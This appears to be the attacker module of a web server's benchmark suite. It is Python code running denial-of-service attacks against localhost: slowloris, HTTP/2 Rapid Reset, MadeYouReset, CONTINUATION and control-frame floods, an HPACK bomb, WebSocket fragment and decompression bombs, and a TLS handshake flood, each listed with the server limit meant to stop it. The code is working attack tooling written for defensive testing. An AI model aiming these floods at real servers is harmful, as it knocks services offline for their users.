"""The attackers of ``benchmarks/attacks.py``, one function per attack class.

Each runs until ``stop`` is set, reconnecting whenever the server cuts it off, and counts in
``observed`` how the server answered (a status, a GOAWAY or close code, a cut connection).
Every socket has a timeout, so each returns within seconds of ``stop``.
"""

from __future__ import annotations

import base64
import collections
import dataclasses
import os
import select
import socket
import ssl
import struct
import threading
import zlib
from collections.abc import Callable

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

Observed = collections.Counter[str]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY_CODES = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    6: "FRAME_SIZE_ERROR",
    9: "COMPRESSION_ERROR",
    11: "ENHANCE_YOUR_CALM",
}
_lock = threading.Lock()


def note(observed: Observed, what: str) -> None:
    with _lock:
        observed[what] += 1


@dataclasses.dataclass
class Attack:
    """One attack class: how to run it, and what limits it."""

    name: str
    limit: str
    run: Callable[[int, ssl.SSLContext | None, threading.Event, Observed], None]
    options: list[str] = dataclasses.field(default_factory=list)
    tls: bool = False
    threads: int = 1


def _connect(port: int, timeout: float = 5.0) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=timeout)


def _status(data: bytes) -> str:
    return data[9:12].decode(errors="replace") if data.startswith(b"HTTP/1.1 ") else "cut"


# -- HTTP/1.1 ---------------------------------------------------------------------------------


def _held(
    count: int, start: bytes, nudge: bytes
) -> Callable[[int, ssl.SSLContext | None, threading.Event, Observed], None]:
    """``count`` connections that send ``start``, then ``nudge`` every second, until cut."""

    def run(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
        sockets: list[socket.socket] = []
        try:
            while not stop.is_set():
                while len(sockets) < count and not stop.is_set():
                    sock = _connect(port)
                    sock.sendall(start)
                    sockets.append(sock)
                readable, _, _ = select.select(sockets, [], [], 1.0)
                for sock in sockets[:]:
                    try:
                        if sock in readable:
                            note(observed, _status(sock.recv(65536)))
                            raise ConnectionError
                        if nudge:
                            sock.send(nudge)
                    except OSError:
                        sock.close()
                        sockets.remove(sock)
        finally:
            for sock in sockets:
                sock.close()

    return run


def slow_read(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    """50 connections ask for 100 MB each and never read; cut ones are replaced."""
    sockets: list[socket.socket] = []
    request = b"GET /download?size=100000000 HTTP/1.1\r\nhost: x\r\n\r\n"
    try:
        while not stop.is_set():
            while len(sockets) < 50:
                sock = _connect(port)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                sock.sendall(request)
                sockets.append(sock)
            stop.wait(1.0)
            for sock in sockets[:]:
                try:
                    sock.send(b"\r\n")  # fails once the server has dropped us
                except OSError:
                    note(observed, "dropped")
                    sock.close()
                    sockets.remove(sock)
    finally:
        for sock in sockets:
            sock.close()


def pipelining_flood(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    """Write pipelined requests without ever reading the responses."""
    batch = b"GET /hello HTTP/1.1\r\nhost: x\r\n\r\n" * 1000
    while not stop.is_set():
        with _connect(port, timeout=1.0) as sock:
            try:
                while not stop.is_set():
                    sock.sendall(batch)
            except TimeoutError:
                note(observed, "server stopped reading")
                stop.wait(1.0)
            except OSError:
                note(observed, "dropped")


def header_flood(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    """Requests with thousands of tiny fields: 2,500 (12 KiB, within the limit), then 5,000."""
    small = b"GET /hello HTTP/1.1\r\nhost: x\r\n" + b"a: b\r\n" * 2500 + b"\r\n"
    large = b"GET /hello HTTP/1.1\r\nhost: x\r\n" + b"a: b\r\n" * 5000 + b"\r\n"
    number = 0
    while not stop.is_set():
        number += 1
        try:
            with _connect(port) as sock:
                sock.sendall(small if number % 2 else large)
                note(observed, _status(sock.recv(65536)))
        except OSError:
            note(observed, "cut")


# -- HTTP/2 -----------------------------------------------------------------------------------


class H2Attacker:
    """A raw HTTP/2 connection: frames out, GOAWAY looked for in what comes back."""

    def __init__(self, port: int) -> None:
        self.sock = _connect(port)
        self.encoder = hpack.Encoder()
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self._buffer = b""

    def request(self, stream_id: int, path: bytes = b"/hello", extra: list[tuple[bytes, bytes]] | None = None) -> bytes:
        fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"), *(extra or [])]
        return self.encoder.encode(fields)

    def send(self, frames: list[Frame]) -> bool:
        """Send; False once the server has closed (its GOAWAY, if any, is then noted)."""
        try:
            self.sock.sendall(b"".join(frame.serialize() for frame in frames))
            return True
        except OSError:
            return False

    def goaway(self, timeout: float = 0.0) -> str | None:
        """The GOAWAY error code if one has arrived (reads what is there)."""
        self.sock.settimeout(timeout or 0.001)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    return self._scan() or "closed"
                self._buffer += data
                found = self._scan()
                if found:
                    return found
        except (TimeoutError, BlockingIOError):
            return self._scan()
        except OSError:
            return self._scan() or "reset"
        finally:
            self.sock.settimeout(5)

    def _scan(self) -> str | None:
        buffer = self._buffer
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            if buffer[3] == 0x7:
                code = int.from_bytes(buffer[9 + 4 : 9 + 8], "big")
                return "GOAWAY " + GOAWAY_CODES.get(code, str(code))
            buffer = buffer[9 + length :]
        self._buffer = buffer
        return None

    def close(self) -> None:
        self.sock.close()


def _h2_flood(make: Callable[[H2Attacker, int], list[Frame]], per_send: int = 100) -> Callable[..., None]:
    """Send ``make(attacker, stream_id)`` frames for new streams until the server gives up on us."""

    def run(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
        while not stop.is_set():
            attacker = H2Attacker(port)
            stream_id = 1
            try:
                while not stop.is_set():
                    frames: list[Frame] = []
                    for _ in range(per_send):
                        frames += make(attacker, stream_id)
                        stream_id += 2
                    answer = attacker.goaway() if attacker.send(frames) else attacker.goaway(2.0) or "closed"
                    if answer or stream_id > 2**30:
                        note(observed, answer or "stream ids used up")
                        break
            finally:
                attacker.close()

    return run


def _rapid_reset(attacker: H2Attacker, stream_id: int) -> list[Frame]:
    return [HeadersFrame(stream_id, attacker.request(stream_id), flags=["END_HEADERS"]), RstStreamFrame(stream_id, 8)]


def _made_you_reset(attacker: H2Attacker, stream_id: int) -> list[Frame]:
    # A window overflow (RFC 9113 §6.9.1) makes the server reset the stream itself.
    return [
        HeadersFrame(stream_id, attacker.request(stream_id), flags=["END_HEADERS"]),
        WindowUpdateFrame(stream_id, window_increment=2**31 - 1),
    ]


def _continuation_flood(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    junk = ContinuationFrame(1, b"\x00" * 16384)
    while not stop.is_set():
        attacker = H2Attacker(port)
        try:
            attacker.send([HeadersFrame(1, b"\x82\x86\x84", flags=["END_STREAM"])])
            for _ in range(10_000):
                if stop.is_set() or not attacker.send([junk] * 4):
                    break
            note(observed, attacker.goaway(2.0) or "no answer")
        finally:
            attacker.close()


def _hpack_bomb(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    # One 4 KB field into the dynamic table, then blocks that index it thousands of times.
    while not stop.is_set():
        attacker = H2Attacker(port)
        try:
            first = attacker.request(1, extra=[(b"x-bomb", b"a" * 4000)])
            attacker.send([HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"])])
            bomb = b"\x82\x86\x84" + b"\xbe" * 16000  # 64 MB decoded from 16 KB
            attacker.send([HeadersFrame(3, bomb, flags=["END_HEADERS", "END_STREAM"])])
            note(observed, attacker.goaway(2.0) or "no answer")
        finally:
            attacker.close()


def _control_flood(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    frames = [PingFrame(0, opaque_data=b"12345678"), SettingsFrame(0), WindowUpdateFrame(0, window_increment=1)] * 100
    while not stop.is_set():
        attacker = H2Attacker(port)
        try:
            while not stop.is_set() and attacker.send(frames):
                answer = attacker.goaway()
                if answer:
                    break
            note(observed, attacker.goaway(2.0) or "closed")
        finally:
            attacker.close()


# -- WebSocket --------------------------------------------------------------------------------


def _websocket(port: int, deflate: bool) -> socket.socket:
    sock = _connect(port)
    key = base64.b64encode(os.urandom(16))
    extension = b"sec-websocket-extensions: permessage-deflate\r\n" if deflate else b""
    sock.sendall(
        b"GET /ws HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: Upgrade\r\n"
        b"sec-websocket-version: 13\r\nsec-websocket-key: " + key + b"\r\n" + extension + b"\r\n"
    )
    head = b""
    while b"\r\n\r\n" not in head:
        head += sock.recv(4096)
    if not head.startswith(b"HTTP/1.1 101"):
        raise ConnectionError("WebSocket refused")
    return sock


def _frame(first: int, payload: bytes) -> bytes:
    """A masked client frame (zero mask: the payload goes as it is)."""
    length = len(payload)
    if length < 126:
        header = bytes((first, 0x80 | length))
    elif length < 65536:
        header = bytes((first, 0xFE)) + struct.pack("!H", length)
    else:
        header = bytes((first, 0xFF)) + struct.pack("!Q", length)
    return header + b"\x00\x00\x00\x00" + payload


def _close_code(sock: socket.socket) -> str:
    sock.settimeout(3)
    data = b""
    try:
        while len(data) < 4:
            piece = sock.recv(65536)
            if not piece:
                break
            data += piece
    except OSError:
        pass
    index = data.find(b"\x88")
    return f"close {int.from_bytes(data[index + 2 : index + 4], 'big')}" if index >= 0 else "cut"


def _fragment_flood(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    # A text message that never ends: one-byte fragments without FIN (RFC 6455 §5.4).
    burst = _frame(0x00, b"a") * 10_000
    while not stop.is_set():
        sock = _websocket(port, deflate=False)
        try:
            sock.sendall(_frame(0x01, b"a"))
            while not stop.is_set():
                sock.sendall(burst)
        except OSError:
            pass
        note(observed, _close_code(sock))
        sock.close()


_bombs: list[bytes] = []


def _bomb() -> bytes:
    """256 MiB of zeros deflated (about 256 KB), as one compressed binary frame; made once."""
    if not _bombs:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        zeros = bytes(1 << 20)
        payload = b"".join(compressor.compress(zeros) for _ in range(256)) + compressor.flush(zlib.Z_SYNC_FLUSH)
        _bombs.append(_frame(0xC2, payload[:-4]))  # FIN, RSV1 (compressed, RFC 7692 §6), binary
    return _bombs[0]


def prepare() -> None:
    """Build what the attacks send before any is timed."""
    _bomb()


def _decompression_bomb(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    bomb = _bomb()
    while not stop.is_set():
        try:
            sock = _websocket(port, deflate=True)
            sock.sendall(bomb)
            note(observed, _close_code(sock))
            sock.close()
        except OSError:
            note(observed, "cut")


# -- TLS --------------------------------------------------------------------------------------


def _handshake_flood(port: int, context: ssl.SSLContext | None, stop: threading.Event, observed: Observed) -> None:
    """Full TLS handshakes back to back, each connection closed right after."""
    assert context is not None
    while not stop.is_set():
        try:
            with context.wrap_socket(_connect(port), server_hostname="localhost"):
                note(observed, "handshake completed")
        except OSError:
            note(observed, "refused or cut")


ATTACKS = [
    Attack("slowloris (200 heads, a byte a second)", "`--header-timeout` (3 s here; 10 s default)",
           _held(200, b"GET /hello HTTP/1.1\r\nhost: x\r\n", b"a"), ["--header-timeout", "3"]),
    Attack("slow body (100 bodies, a byte a second)",
           "not cut: `--body-timeout` (3 s here) times pauses only; connection limits (issue 10)",
           _held(100, b"POST /upload HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n", b"a"),
           ["--body-timeout", "3"]),
    Attack("slow read (50 x 100 MB never read)", "backpressure (app `send()` waits), `--send-timeout` (3 s here)",
           slow_read, ["--send-timeout", "3"]),
    Attack("pipelining flood (never reads)", "reading pauses while responses are unread; `--send-timeout` (3 s here)",
           pipelining_flood, ["--send-timeout", "3"]),
    Attack("header flood (2,500 / 5,000 tiny fields)", "`--max-header-size` (16 KiB): 431", header_flood, threads=2),
    Attack("HTTP/2 Rapid Reset", "`--h2-max-resets` (200 / 10 s): GOAWAY ENHANCE_YOUR_CALM",
           _h2_flood(_rapid_reset)),
    Attack("HTTP/2 MadeYouReset (window overflow)", "`--h2-max-resets` counts provoked resets too",
           _h2_flood(_made_you_reset)),
    Attack("HTTP/2 CONTINUATION flood", "`--h2-max-header-list-size` (64 KiB) on the compressed block",
           _continuation_flood),
    Attack("HTTP/2 HPACK bomb (64 MB from 16 KB)", "`--h2-max-header-list-size` on the decoded list", _hpack_bomb),
    Attack("HTTP/2 control-frame flood (PING, SETTINGS, WINDOW_UPDATE)", "`--h2-max-control-frames` (1000 / 10 s)",
           _control_flood),
    Attack("WebSocket fragment flood (1-byte fragments)", "`--ws-max-message-size` (1 MiB here; 16 MiB default): 1009",
           _fragment_flood, ["--ws-max-message-size", "1048576"]),
    Attack("WebSocket decompression bomb (256 MiB of zeros)", "bounded inflate, `--ws-max-message-size`: 1009",
           _decompression_bomb),
    Attack("TLS handshake flood (4 clients back to back)", "none per client yet; `--tls-handshake-timeout` for stalled ones",
           _handshake_flood, tls=True, threads=4),
]  # fmt: skip
